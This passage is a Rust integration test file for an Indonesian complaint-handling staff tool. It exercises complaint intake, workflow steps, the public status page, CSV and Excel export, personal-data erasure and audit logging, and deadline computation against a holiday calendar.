//! The staff tool as staff use it: the `pengaduan-staf` binary run on a temporary SQLite file
//! (and on DynamoDB through moto's server), through the whole path of a complaint: intake on the
//! site, a phone complaint registered, files returned then complete, every step, the Berita
//! Acara number, the public status page, listing, the export as CSV and as a real .xlsx, and the
//! erasure of personal data; attachments sent through the form, saved and erased; stored text
//! that would act on a terminal or a spreadsheet; the history signed by the operating-system
//! user and the audit trail of personal data seen; staff accounts (`pengguna`).

use bytes::Bytes;
use form_fn::{App, Config, HttpConfig, Pages, handle};
use http::{Request, StatusCode};
use jiff::Timestamp;
use pengaduan_core::access::Role;
use pengaduan_store::accounts::password::{new_csrf_token, new_session_id, verify_password};
use pengaduan_store::accounts::{AccountStore, AuditAction, AuditEntry, Session};
use pengaduan_store::attachments::AnyAttachments;
use pengaduan_store::attachments::local::LocalAttachments;
use pengaduan_store::sqlite::SqliteStore;
use pengaduan_store::testing::Moto;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_pengaduan-staf");

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf()
}

/// The operating-system account the tests run as, which the tool must sign with: asked of
/// `id -un`, not of the code under test.
static OS_USER: std::sync::LazyLock<String> = std::sync::LazyLock::new(|| {
    let out = Command::new("id").arg("-un").output().expect("id runs");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
});

/// What every run claims in `USER` and `LOGNAME`: a name the environment says and the tool must
/// not believe.
const CLAIMED_USER: &str = "kadis";

/// Runs the tool at a fixed time (RFC 3339) as [`OS_USER`] with a store spec and extra environment.
struct Staf {
    store: String,
    env: Vec<(String, String)>,
    /// The site's folder (`--root`): the repository's own, or a copy whose content a test edits.
    root: PathBuf,
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Staf {
    fn sqlite(db: &Path) -> Self {
        Self { store: format!("sqlite:{}", db.display()), env: Vec::new(), root: repo_root() }
    }

    fn run(&self, at: &str, args: &[&str]) -> Run {
        self.run_with_input(at, args, None)
    }

    /// Runs with `input` on standard input (none: standard input is empty).
    fn run_with_input(&self, at: &str, args: &[&str], input: Option<&str>) -> Run {
        let mut cmd = Command::new(BIN);
        cmd.arg("--store").arg(&self.store).arg("--root").arg(&self.root).args(args);
        cmd.env("PENGADUAN_STAF_WAKTU", at).env_remove("PENGADUAN_PREFIX").env_remove("PENGADUAN_TIMEZONE");
        cmd.env("USER", CLAIMED_USER).env("LOGNAME", CLAIMED_USER).env("USERNAME", CLAIMED_USER);
        cmd.env_remove("SMTP_URL").env_remove("CLAMD_URL");
        for (k, v) in &self.env {
            cmd.env(k, v);
        }
        cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("the binary runs");
        let mut stdin = child.stdin.take().unwrap();
        if let Some(input) = input {
            // The tool may refuse before it reads: a closed pipe is not the test's failure.
            let _ = stdin.write_all(input.as_bytes());
        }
        drop(stdin);
        let Output { status, stdout, stderr } = child.wait_with_output().expect("the binary runs");
        let run = Run {
            code: status.code().unwrap_or(-1),
            stdout: String::from_utf8(stdout).unwrap(),
            stderr: String::from_utf8(stderr).unwrap(),
        };
        eprintln!("$ pengaduan-staf {}\n{}{}", args.join(" "), run.stdout, run.stderr);
        run
    }

    /// Runs and expects success.
    fn ok(&self, at: &str, args: &[&str]) -> String {
        let run = self.run(at, args);
        assert_eq!(run.code, 0, "{args:?} failed: {}", run.stderr);
        run.stdout
    }
}

/// "Nomor register : PGD-2026-00002" and the tracking code, from `catat`'s output.
fn number_and_code(out: &str) -> (String, String) {
    let value = |label: &str| {
        out.lines().find_map(|l| l.strip_prefix(label)).map(|v| v.trim_start_matches([' ', ':']).to_owned()).unwrap()
    };
    (value("Nomor register"), value("Kode lacak"))
}

const MON_16_MARCH: &str = "2026-03-16T02:00:00Z";
const TUE_17_MARCH: &str = "2026-03-17T02:00:00Z";
const FRI_20_MARCH: &str = "2026-03-20T03:00:00Z";

fn catat_args<'a>(extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec![
        "catat",
        "--kanal",
        "telepon",
        "--jenis",
        "pengaduan",
        "--judul",
        "Antrean izin usaha lama",
        "--isi",
        "Saya menunggu lebih dari dua jam di loket izin usaha tanpa kepastian.",
        "--nama",
        "Ahmad Yani",
        "--telepon",
        "0812 3456 7890",
    ];
    args.extend_from_slice(extra);
    args
}

fn app(db: &Path, at: &'static str) -> App<SqliteStore> {
    let now: Timestamp = at.parse().unwrap();
    let mut config = Config::default();
    // As `site-gen serve` does: the key file beside the database, shared with the staff tool.
    pengaduan_store::open::with_local_code_key(&mut config, &format!("sqlite:{}", db.display()), None).unwrap();
    let http = HttpConfig { rate_limit_per_hour: 0, ..HttpConfig::default() };
    App::new(
        SqliteStore::open(db).unwrap(),
        config,
        http,
        Pages::embedded().unwrap().with_rules(&pengaduan_store::testing::shipped_rules()),
    )
    .with_clock(move || now)
}

/// The audit trail of the SQLite store at `db`, oldest first.
async fn audit_trail(db: &Path) -> Vec<AuditEntry> {
    let store = SqliteStore::open(db).unwrap();
    let mut trail = store.audit_trail("2026-01-01T00:00:00Z".parse().unwrap(), 1000).await.unwrap();
    trail.reverse();
    trail
}

/// The entries of `trail` with `action`, as (username, role, complaint, detail).
fn entries(trail: &[AuditEntry], action: AuditAction) -> Vec<(&str, Option<Role>, Option<&str>, &str)> {
    trail
        .iter()
        .filter(|e| e.action == action)
        .map(|e| (e.username.as_str(), e.role, e.nomor.as_deref(), e.detail.as_str()))
        .collect()
}

async fn get(app: &App<SqliteStore>, uri: &str, accept: &str) -> (StatusCode, String) {
    let req = Request::builder().method("GET").uri(uri).header("accept", accept).body(Bytes::new()).unwrap();
    let resp = handle(app, req, None).await;
    (resp.status(), String::from_utf8(resp.body().to_vec()).unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_whole_path_on_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf::sqlite(&db);

    // 1. Intake on the site.
    let site = app(&db, "2026-03-16T01:00:00Z");
    let body = json!({
        "jenis": "pengaduan", "nama": "Siti Rahayu", "email": "siti@contoh.co.id",
        "judul": "Izin usaha belum terbit", "isi": "Permohonan izin saya belum terbit setelah tiga minggu.",
        "pernyataan_kebenaran": true, "persetujuan_data": true
    });
    let req = Request::builder()
        .method("POST")
        .uri("/api/pengaduan")
        .header("content-type", "application/json")
        .body(Bytes::from(body.to_string()))
        .unwrap();
    let resp = handle(&site, req, None).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let web: Value = serde_json::from_slice(resp.body()).unwrap();
    assert_eq!(web["nomor"], "PGD-2026-00001");

    // 2. A phone complaint, registered by the Front Office: the next number of the same register.
    let mut invalid = catat_args(&[]);
    invalid[12] = "12";
    let refused = staf.run(MON_16_MARCH, &invalid);
    assert_eq!(refused.code, 1);
    assert!(refused.stderr.contains("--telepon: Masukkan nomor telepon Indonesia"), "{}", refused.stderr);
    assert!(refused.stderr.contains("--persetujuan: tanyakan kepada pengadu"), "{}", refused.stderr);
    let out = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"]));
    assert!(out.contains("kanal: Telepon"), "{out}");
    let (nomor, kode) = number_and_code(&out);
    assert_eq!(nomor, "PGD-2026-00002");
    assert!(pengaduan_core::TrackingCode::parse(&kode).is_some_and(|c| c.to_string() == kode), "{kode}");
    // Recorded twice by mistake: the same number, nothing new.
    let again = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"]));
    assert!(again.contains("sudah dicatat dalam 24 jam terakhir"), "{again}");
    assert_eq!(number_and_code(&again), (nomor.clone(), kode.clone()));

    // 3. Files returned, then complete on Tuesday 17 March with the resolution procedure.
    let out = staf.ok(MON_16_MARCH, &["kembalikan", &nomor, "--alasan", "Surat pernyataan belum ada"]);
    assert!(out.contains("Perlu dilengkapi"), "{out}");
    let early = staf.run(MON_16_MARCH, &["lanjut", &nomor, "--catatan", "mulai"]);
    assert_eq!(early.code, 1);
    assert!(early.stderr.contains("belum dinyatakan lengkap"), "{}", early.stderr);
    let wrong = staf.run(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "kilat"]);
    assert!(wrong.stderr.contains("prosedur yang ada: penyelesaian, jawaban-tertulis"), "{}", wrong.stderr);
    let out = staf
        .ok(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian", "--catatan", "berkas diterima lengkap"]);
    assert!(out.contains("dinyatakan lengkap pada Selasa, 17 Maret 2026"), "{out}");
    assert!(out.contains("Tenggat penyelesaian: Rabu, 8 April 2026 (10 hari kerja"), "{out}");
    assert!(out.contains("Sekarang: Langkah 3 dari 11"), "{out}");

    // A change based on an old look is refused (exit 3): no lost update.
    let stale = staf.run(FRI_20_MARCH, &["lanjut", &nomor, "--catatan", "x", "--versi", "2"]);
    assert_eq!(stale.code, 3, "{}", stale.stderr);
    assert!(stale.stderr.contains("Pengaduan telah diubah oleh petugas lain"), "{}", stale.stderr);

    // 4. Every step in order; the BA gets its number at its step.
    let mut ba_seen = Vec::new();
    for step in 4..=11 {
        let note = format!("langkah {step} selesai");
        let out = staf.ok(FRI_20_MARCH, &["lanjut", &nomor, "--catatan", &note]);
        assert!(out.contains(&format!("Langkah {step} dari 11")), "{out}");
        if let Some(ba) = out.lines().find_map(|l| l.strip_prefix("Nomor Berita Acara Penyelesaian Pengaduan: ")) {
            ba_seen.push((step, ba.to_owned()));
        }
        if step == 11 {
            assert!(out.contains("Status publik: Selesai"), "{out}");
            assert!(out.contains("Pengaduan selesai dalam 0 hari kerja"), "{out}");
        } else {
            assert!(out.contains("Status publik: Sedang diproses"), "{out}");
        }
    }
    assert_eq!(ba_seen, [(9, "BA-2026-00001".to_owned())]);
    let after = staf.run(FRI_20_MARCH, &["lanjut", &nomor, "--catatan", "lagi"]);
    assert_eq!(after.code, 1);
    assert!(after.stderr.contains("sudah selesai"), "{}", after.stderr);

    // The web complaint follows the written-answer procedure.
    staf.ok(TUE_17_MARCH, &["lengkap", "PGD-2026-00001", "--prosedur", "jawaban-tertulis"]);
    staf.ok(FRI_20_MARCH, &["lanjut", "PGD-2026-00001", "--catatan", "kajian dimulai"]);

    // 5. The public status page: stages with dates, the deadline, never notes or staff names.
    let public = app(&db, FRI_20_MARCH);
    let uri = format!("/api/lacak?nomor={nomor}&kode={kode}");
    let (status, text) = get(&public, &uri, "application/json").await;
    assert_eq!(status, StatusCode::OK);
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["status"], "selesai");
    assert_eq!(v["tenggat"], "2026-04-08");
    let stages: Vec<(String, Value)> = v["tahapan"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["status"].as_str().unwrap().to_owned(), t["tanggal"].clone()))
        .collect();
    assert_eq!(
        stages,
        [
            ("diterima".to_owned(), json!("2026-03-16")),
            ("perlu_dilengkapi".to_owned(), json!("2026-03-16")),
            ("diverifikasi".to_owned(), json!("2026-03-17")),
            ("diproses".to_owned(), json!("2026-03-20")),
            ("selesai".to_owned(), json!("2026-03-20")),
        ]
    );
    let (_, html) = get(&public, &uri, "text/html").await;
    assert!(html.contains("Rabu, 8 April 2026"), "deadline on the page");
    assert!(html.contains("Selasa, 17 Maret 2026"), "stage date on the page");
    for secret in
        ["rina", "pengaduan-staf", "Surat pernyataan belum ada", "langkah 9 selesai", "Ahmad", "+6281234567890"]
    {
        assert!(!text.contains(secret) && !html.contains(secret), "{secret} must not be public");
    }
    let (_, web_json) = get(
        &public,
        &format!("/api/lacak?nomor=PGD-2026-00001&kode={}", web["kode_lacak"].as_str().unwrap()),
        "application/json",
    )
    .await;
    let w: Value = serde_json::from_str(&web_json).unwrap();
    assert_eq!(w["status"], "diproses");
    // The public is told the next step in plain words, never an internal job title.
    let next = w["langkah_berikutnya"].as_str().unwrap();
    assert_eq!(next, pengaduan_core::Status::Diproses.next_step(), "{w}");
    assert!(!next.contains("Kepala Bidang") && !next.contains("JFT"), "{w}");

    // 6. Listing.
    let out = staf.ok(FRI_20_MARCH, &["daftar"]);
    assert!(out.contains("PGD-2026-00001") && out.contains("PGD-2026-00002") && out.contains("2 pengaduan."), "{out}");
    let out = staf.ok(FRI_20_MARCH, &["daftar", "--status", "selesai"]);
    assert!(!out.contains("PGD-2026-00001") && out.contains("PGD-2026-00002"), "{out}");
    let out = staf.ok(FRI_20_MARCH, &["daftar", "--kanal", "telepon"]);
    assert!(out.contains("1 pengaduan."), "{out}");
    // Web complaint: deadline 8 April. Due within 3 working days on Monday 6 April; overdue on 9 April.
    let out = staf.ok("2026-04-06T02:00:00Z", &["daftar", "--jatuh-tempo", "3"]);
    assert!(out.contains("PGD-2026-00001") && !out.contains("PGD-2026-00002"), "{out}");
    let out = staf.ok(FRI_20_MARCH, &["daftar", "--jatuh-tempo", "3"]);
    assert!(out.contains("Tidak ada pengaduan"), "{out}");
    let out = staf.ok("2026-04-09T02:00:00Z", &["daftar", "--terlambat"]);
    assert!(out.contains("PGD-2026-00001") && out.contains("(terlambat)") && out.contains("1 pengaduan."), "{out}");
    let bad = staf.run(FRI_20_MARCH, &["daftar", "--status", "ditolak"]);
    assert!(bad.stderr.contains("Status \"ditolak\" tidak dikenal"), "{}", bad.stderr);

    // 7. One complaint with its full history, every change signed by the operating-system user
    // and the tool, never by a typed name; showing the complainant's identity is audited.
    assert!(entries(&audit_trail(&db).await, AuditAction::ViewPersonalData).is_empty());
    let out = staf.ok(FRI_20_MARCH, &["lihat", &nomor]);
    let signed: Vec<&str> = out.lines().filter(|l| l.starts_with("  #")).collect();
    assert_eq!(signed.len(), 11, "{out}");
    let signature = format!("  {} (pengaduan-staf)", *OS_USER);
    assert!(signed.iter().all(|l| l.ends_with(&signature)), "{signed:#?}");
    assert_eq!(
        entries(&audit_trail(&db).await, AuditAction::ViewPersonalData),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), "pengaduan-staf")]
    );
    for needle in [
        "Kanal            : Telepon",
        "Nomor BA         : BA-2026-00001",
        "Ahmad Yani",
        "+6281234567890",
        "Catatan: Surat pernyataan belum ada",
        "diterima -> perlu_dilengkapi",
        "perlu_dilengkapi -> diverifikasi",
        "Berlaku tanggal: Selasa, 17 Maret 2026",
        "#11",
    ] {
        assert!(out.contains(needle), "lihat lacks {needle:?}:\n{out}");
    }

    // 8. Export for March: CSV and a real Excel workbook.
    let csv_path = dir.path().join("register.csv");
    let xlsx_path = dir.path().join("register.xlsx");
    let out = staf.ok(
        FRI_20_MARCH,
        &[
            "ekspor",
            "--dari",
            "2026-03-01",
            "--sampai",
            "2026-03-31",
            "--csv",
            csv_path.to_str().unwrap(),
            "--xlsx",
            xlsx_path.to_str().unwrap(),
        ],
    );
    assert!(out.contains("2 pengaduan ditulis"), "{out}");
    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(headers, pengaduan_report::HEADINGS);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[1],
        [
            "PGD-2026-00002",
            "2026-03-16",
            "Telepon",
            "Pengaduan",
            "Antrean izin usaha lama",
            "Selesai",
            "2026-04-08",
            "0",
            "BA-2026-00001",
            "tidak",
            "tidak"
        ]
    );
    assert_eq!(rows[0][0], "PGD-2026-00001");
    assert_eq!(rows[0][2], "Formulir daring");
    assert_eq!((rows[0][7].as_str(), rows[0][8].as_str()), ("", ""), "not finished, no BA");
    assert_eq!((rows[0][9].as_str(), rows[0][10].as_str()), ("tidak", ""), "a deadline, no time taken yet");
    let xlsx = std::fs::File::open(&xlsx_path).unwrap();
    let mut zip = zip::ZipArchive::new(xlsx).unwrap();
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert!(sheet.contains("<autoFilter"), "a filterable register");
    let mut strings = String::new();
    zip.by_name("xl/sharedStrings.xml").unwrap().read_to_string(&mut strings).unwrap();
    for needle in ["PGD-2026-00002", "BA-2026-00001", "Nomor Register", "Telepon"] {
        assert!(strings.contains(needle) || sheet.contains(needle), "workbook lacks {needle}");
    }
    let mut workbook = String::new();
    zip.by_name("xl/workbook.xml").unwrap().read_to_string(&mut workbook).unwrap();
    assert!(workbook.contains("Buku Register Pengaduan"), "sheet name");
    // Another month has none.
    let out = staf.ok(
        FRI_20_MARCH,
        &["ekspor", "--dari", "2026-04-01", "--sampai", "2026-04-30", "--csv", csv_path.to_str().unwrap()],
    );
    assert!(out.contains("0 pengaduan ditulis"), "{out}");

    // 9. Personal data erased on request; the register row stays.
    let out = staf.ok(FRI_20_MARCH, &["hapus-data-pribadi", &nomor, "--alasan", "Permintaan pengadu"]);
    assert!(out.contains("telah dihapus"), "{out}");
    let out = staf.ok(FRI_20_MARCH, &["lihat", &nomor]);
    assert!(!out.contains("Ahmad Yani") && !out.contains("+6281234567890"), "{out}");
    assert!(out.contains("(dihapus atas permintaan pada") && out.contains("data pribadi dihapus"), "{out}");
    assert!(out.contains("Nomor BA         : BA-2026-00001"), "{out}");
    assert!(out.contains(&format!("  {} (pengaduan-staf)\n       data pribadi dihapus", *OS_USER)), "{out}");
    let trail = audit_trail(&db).await;
    assert_eq!(
        entries(&trail, AuditAction::ErasePersonalData),
        [(OS_USER.as_str(), None, Some(nomor.as_str()), "pengaduan-staf: 0 lampiran dihapus")]
    );
    assert_eq!(entries(&trail, AuditAction::ViewPersonalData).len(), 1, "nothing personal was shown after erasure");
    let exports = entries(&trail, AuditAction::ExportRegister);
    assert_eq!(exports.len(), 2, "each export is recorded: {exports:?}");
    for period in ["2026-03-01 s/d 2026-03-31, 2 baris", "2026-04-01 s/d 2026-04-30, 0 baris"] {
        let detail = format!("pengaduan-staf: {period}");
        assert!(exports.contains(&(OS_USER.as_str(), None, None, detail.as_str())), "{period}: {exports:?}");
    }
    let twice = staf.run(FRI_20_MARCH, &["hapus-data-pribadi", &nomor, "--alasan", "lagi"]);
    assert!(twice.stderr.contains("sudah dihapus"), "{}", twice.stderr);
    staf.ok(
        FRI_20_MARCH,
        &["ekspor", "--dari", "2026-03-01", "--sampai", "2026-03-31", "--csv", csv_path.to_str().unwrap()],
    );
    let rows = csv::Reader::from_path(&csv_path).unwrap().records().count();
    assert_eq!(rows, 2, "the erased complaint keeps its register row");
    let conn = rusqlite::Connection::open(&db).unwrap();
    let personal: i64 =
        conn.query_row("SELECT count(*) FROM personal_data WHERE nomor = ?1", [&nomor], |r| r.get(0)).unwrap();
    assert_eq!(personal, 0);
}

#[test]
fn every_command_has_indonesian_help() {
    for sub in [
        "",
        "daftar",
        "lihat",
        "catat",
        "lengkap",
        "kembalikan",
        "lanjut",
        "ekspor",
        "laporan",
        "tenggat",
        "indeks-bulan",
        "pindah-data-pribadi",
        "hapus-data-pribadi",
        "lampiran",
        "unduh",
        "pengguna",
        "pengguna tambah",
        "pengguna daftar",
        "pengguna nonaktifkan",
        "pengguna aktifkan",
        "pengguna sandi",
        "konten",
        "konten tarik",
        "konten benih",
    ] {
        let mut cmd = Command::new(BIN);
        cmd.args(sub.split_whitespace());
        let out = cmd.arg("--help").output().unwrap();
        assert!(out.status.success(), "{sub} --help");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("Pemakaian: pengaduan-staf"), "{sub}: {text}");
        assert!(text.contains("Tampilkan bantuan"), "{sub}: {text}");
        for english in ["Usage:", "Options:", "Commands:", "Print help", "[default", "Arguments:"] {
            assert!(!text.contains(english), "{sub} --help shows {english}:\n{text}");
        }
    }
}

#[test]
fn usage_errors_are_indonesian() {
    let out = Command::new(BIN).args(["lanjut"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("isian wajib belum diberikan") && err.contains("pengaduan-staf lanjut --help"), "{err}");
    let out = Command::new(BIN).args(["hapus"]).output().unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("perintah \"hapus\" tidak dikenal"), "{err}");
    // The history is signed by the operating-system user: there is no name to type.
    let out =
        Command::new(BIN).args(["lanjut", "PGD-2026-00001", "--petugas", "Budi", "--catatan", "x"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("pilihan --petugas tidak dikenal"), "{err}");
    // Within the account commands, their own commands are listed, and their help named.
    let out = Command::new(BIN).args(["pengguna", "hapus", "rina"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains(
            "perintah \"hapus\" tidak dikenal; perintah yang ada: tambah, daftar, nonaktifkan, aktifkan, sandi"
        ),
        "{err}"
    );
    assert!(err.contains("Bantuan: pengaduan-staf pengguna --help"), "{err}");
    let out = Command::new(BIN).args(["pengguna", "tambah", "rina"]).output().unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains("isian wajib belum diberikan: --peran") && err.contains("pengaduan-staf pengguna tambah --help"),
        "{err}"
    );
}

#[test]
fn an_unknown_command_lists_every_command() {
    let out = Command::new(BIN).args(["unggah", "PGD-2026-00001"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    let listed =
        err.lines().find_map(|l| l.split_once("perintah yang ada: ")).map(|(_, list)| list).unwrap_or_default();
    let listed: Vec<&str> = listed.split(", ").collect();
    assert_eq!(
        listed,
        [
            "daftar",
            "lihat",
            "catat",
            "lengkap",
            "kembalikan",
            "lanjut",
            "ekspor",
            "skm",
            "laporan",
            "statistik",
            "surel",
            "tenggat",
            "indeks-bulan",
            "pindah-data-pribadi",
            "hapus-data-pribadi",
            "lampiran",
            "unduh",
            "pengguna",
            "audit",
            "konten"
        ],
        "{err}"
    );
    // The hint names the command when one was given, now for every command.
    let out = Command::new(BIN).args(["unduh", "PGD-2026-00001"]).output().unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("isian wajib belum diberikan: --ke") && err.contains("pengaduan-staf unduh --help"), "{err}");
}

/// The content the tool reads under a temporary root, for tests that change the calendar: the
/// shipped service page, and core's fixture calendar of 2026 alone (never the shipped calendar,
/// which gains 2027 one day while these tests need it missing).
fn site_copy(root: &Path) {
    let fixture = repo_root().join("core/tests/fixtures/hari-libur-2026.toml");
    for (file, from) in [
        (pengaduan_site::rules::SERVICE_PAGE, repo_root().join(pengaduan_site::rules::SERVICE_PAGE)),
        (pengaduan_site::rules::CALENDAR, fixture),
    ] {
        let target = root.join(file);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(from, target).unwrap();
    }
}

/// Adds a year block to the calendar under `root`.
fn add_to_calendar(root: &Path, block: &str) {
    let path = root.join(pengaduan_site::rules::CALENDAR);
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, format!("{text}\n{block}")).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_holiday_year_gives_a_provisional_deadline_until_the_year_is_added() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("situs");
    site_copy(&root);
    let db = dir.path().join("p.db");
    let staf = Staf { root: root.clone(), ..Staf::sqlite(&db) };
    const MON_28_DEC: &str = "2026-12-28T02:00:00Z";
    // On 1 December 2026 a deadline can already fall in 2027, which the calendar lacks.
    let run = staf.run("2026-12-01T02:00:00Z", &["daftar"]);
    assert_eq!(run.code, 0);
    assert!(run.stderr.contains("PERINGATAN") && run.stderr.contains("tahun 2027"), "{}", run.stderr);
    assert!(run.stderr.contains("ditandai sementara"), "{}", run.stderr);

    // Complete on Monday 28 December 2026: the office works on, the deadline counted without
    // 2027's holidays (New Year's Day counts as a working day) and marked as such.
    let (nomor, kode) = number_and_code(&staf.ok(MON_28_DEC, &catat_args(&["--persetujuan"])));
    let run = staf.run(MON_28_DEC, &["lengkap", &nomor, "--prosedur", "penyelesaian"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("Tenggat penyelesaian: Senin, 11 Januari 2027 (10 hari kerja setelah berkas lengkap; sementara: kalender hari libur 2027 belum ditetapkan)."),
        "{}",
        run.stdout
    );
    assert!(run.stderr.contains("PERINGATAN") && run.stderr.contains("tahun 2027"), "{}", run.stderr);
    let out = staf.ok(MON_28_DEC, &["lihat", &nomor]);
    assert!(
        out.contains(
            "Tenggat          : Senin, 11 Januari 2027 (sementara: kalender hari libur 2027 belum ditetapkan)"
        ),
        "{out}"
    );
    assert!(staf.ok(MON_28_DEC, &["daftar"]).contains("2027-01-11 (sementara)"));
    let csv_path = dir.path().join("register.csv");
    let csv_arg = csv_path.to_str().unwrap();
    staf.ok(MON_28_DEC, &["ekspor", "--dari", "2026-12-01", "--sampai", "2026-12-31", "--csv", csv_arg]);
    let row = csv::Reader::from_path(&csv_path).unwrap().records().next().unwrap().unwrap();
    assert_eq!((&row[6], &row[9], &row[10]), ("2027-01-11", "ya", ""), "{row:?}");

    // The complainant is told too.
    let public = app(&db, MON_28_DEC);
    let uri = format!("/api/lacak?nomor={nomor}&kode={kode}");
    let (_, text) = get(&public, &uri, "application/json").await;
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((&v["tenggat"], &v["tenggat_sementara"]), (&json!("2027-01-11"), &json!(true)), "{v}");
    let (_, html) = get(&public, &uri, "text/html").await;
    assert!(html.contains("Senin, 11 Januari 2027 (sementara: kalender hari libur 2027 belum ditetapkan)"), "{html}");

    // The year is added: `tenggat` recomputes and lists the change; the mark is gone everywhere.
    add_to_calendar(
        &root,
        "[[tahun]]\ntahun = 2027\nlibur_nasional = [\n  { tanggal = 2027-01-01, nama = \"Tahun Baru 2027 Masehi\" },\n]\ncuti_bersama = []\n",
    );
    let out = staf.ok(MON_28_DEC, &["tenggat"]);
    assert!(out.starts_with("1 tenggat diperiksa, 1 diperbarui.\n"), "{out}");
    assert!(out.contains(&format!("{nomor}: Senin, 11 Januari 2027 (sementara) -> Selasa, 12 Januari 2027")), "{out}");
    let out = staf.ok(MON_28_DEC, &["lihat", &nomor]);
    assert!(out.contains("Tenggat          : Selasa, 12 Januari 2027 (") && !out.contains("sementara"), "{out}");
    let (_, text) = get(&public, &uri, "application/json").await;
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!((&v["tenggat"], &v["tenggat_sementara"]), (&json!("2027-01-12"), &json!(false)), "{v}");
    assert_eq!(staf.ok(MON_28_DEC, &["tenggat"]), "1 tenggat diperiksa, 0 diperbarui.\n");

    // An amended SKB (a cuti bersama added on 4 January): any command brings the deadline along.
    let path = root.join(pengaduan_site::rules::CALENDAR);
    let text = std::fs::read_to_string(&path).unwrap();
    let amended = text.replace(
        "]\ncuti_bersama = []\n",
        "]\ncuti_bersama = [\n  { tanggal = 2027-01-04, nama = \"Cuti bersama Tahun Baru\" },\n]\n",
    );
    assert_ne!(amended, text);
    std::fs::write(&path, amended).unwrap();
    let run = staf.run(MON_28_DEC, &["daftar"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("1 tenggat diperiksa, 1 diperbarui."), "{}", run.stderr);
    assert!(run.stdout.contains("2027-01-13") && !run.stdout.contains("sementara"), "{}", run.stdout);
}

#[test]
fn dates_given_by_staff_are_checked() {
    let dir = tempfile::tempdir().unwrap();
    let staf = Staf::sqlite(&dir.path().join("p.db"));
    let (nomor, _) = number_and_code(&staf.ok(TUE_17_MARCH, &catat_args(&["--persetujuan"])));
    let future = staf.run(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian", "--tanggal", "2026-03-18"]);
    assert!(future.stderr.contains("tidak boleh setelah hari ini"), "{}", future.stderr);
    let before = staf.run(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian", "--tanggal", "2026-03-16"]);
    assert!(before.stderr.contains("tidak boleh sebelum pengaduan diterima"), "{}", before.stderr);
    let malformed =
        staf.run(TUE_17_MARCH, &["lengkap", &nomor, "--prosedur", "penyelesaian", "--tanggal", "17-03-2026"]);
    assert!(malformed.stderr.contains("tulis TTTT-BB-HH"), "{}", malformed.stderr);
    let unknown = staf.run(TUE_17_MARCH, &["lihat", "PGD-2026-00099"]);
    assert!(unknown.stderr.contains("Pengaduan PGD-2026-00099 tidak ditemukan"), "{}", unknown.stderr);
    let mut args = catat_args(&["--persetujuan"]);
    args[2] = "web";
    let web = staf.run(TUE_17_MARCH, &args);
    assert!(web.stderr.contains("Kanal web dipakai formulir daring"), "{}", web.stderr);
}

// ---- Attachments, sent through the form ----

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n";
const PNG: &[u8] = &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, b'I', b'H', b'D', b'R'];

/// A multipart body as a browser sends it: the form's fields, then `lampiran` files.
fn multipart(files: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let fields = [
        ("jenis", "pengaduan"),
        ("nama", "Siti Rahayu"),
        ("email", "siti@contoh.co.id"),
        ("judul", "Izin usaha belum terbit"),
        ("isi", "Permohonan izin saya belum terbit setelah tiga minggu."),
        ("pernyataan_kebenaran", "on"),
        ("persetujuan_data", "on"),
    ];
    pengaduan_store::testing::multipart(&fields, files)
}

/// Submits a complaint with `files` through the handler, storing them where the tool looks by
/// default (`lampiran/` beside the database); its register number.
